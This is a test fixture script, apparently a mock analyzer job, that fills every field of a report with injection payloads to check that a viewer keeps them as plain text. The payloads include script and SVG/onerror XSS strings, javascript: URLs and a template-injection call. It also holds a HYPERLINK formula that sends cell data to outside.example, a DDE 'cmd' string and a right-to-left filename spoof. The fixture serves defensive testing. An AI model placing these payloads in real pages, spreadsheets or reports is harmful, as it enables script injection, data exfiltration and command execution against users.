#!/usr/bin/env node
// Every place of a report that holds a text holds one that must stay a text. Whatever runs sets
// `window.pwned`, opens a dialog, or asks outside.example, and each of these fails a journey.
// A value with `fail` in it ends with an error of the same kind, one with `bare` in a report that is one text.
import { fail, succeed, taxonomy, value } from '../../job.mjs'

const script = '<script>window.pwned=1</script>'
const image = '<img src=https://outside.example/a.png onerror="alert(document.domain)">'
const link = '<a href="javascript:alert(1)">click</a>'
const scheme = 'javascript:alert(document.cookie)'
const formula = '=HYPERLINK("https://outside.example/?"&A1,"open")'
const texts = [
  script,
  image,
  link,
  scheme,
  formula,
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\tstarts with a tab',
  '"><svg/onload=alert(2)>',
  '{{constructor.constructor("alert(3)")()}}',
  '[click](javascript:alert(4)) ![i](https://outside.example/b.png) | cell | `code`',
  '\u202egnp.exe',
  '\u0000\u001b[31mred',
  'https://outside.example/path?q=1',
  'x'.repeat(10_000),
]

if (value.includes('fail')) {
  fail(texts.join('\n'))
} else if (value.includes('bare')) {
  succeed({ full: { result: `${script} and nothing else` } })
} else {
  succeed({
    taxonomies: [
      taxonomy('malicious', script, image, link),
      taxonomy('info', formula, scheme, '@SUM(A1)'),
      taxonomy(script, 'Level', 'of no known kind'),
    ],
    full: {
      texts,
      [script]: { [image]: link },
      __proto__polluted: { constructor: 'x', toString: 'y', hasOwnProperty: 'z' },
      table: texts.map((text, row) => ({ row, text, [formula]: text })),
      url: scheme,
      link: 'https://outside.example/',
      image: 'https://outside.example/c.png',
      html: `<html><body>${script}${image}</body></html>`,
    },
    artifacts: [
      { dataType: 'url', data: scheme, tags: [script, formula], message: image },
      { dataType: 'url', data: 'https://outside.example/d.png', tags: [link] },
      { dataType: 'other', data: `${script}${image}` },
      { dataType: 'other', data: formula, message: formula },
      { dataType: 'mail', data: '"<script>window.pwned=2</script>"@outside.example' },
      { dataType: 'domain', data: 'outside.example' },
      { dataType: `${script}`, data: 'a type of no known kind' },
    ],
    operations: [{ type: 'AddTagToCase', tag: script }],
  })
}
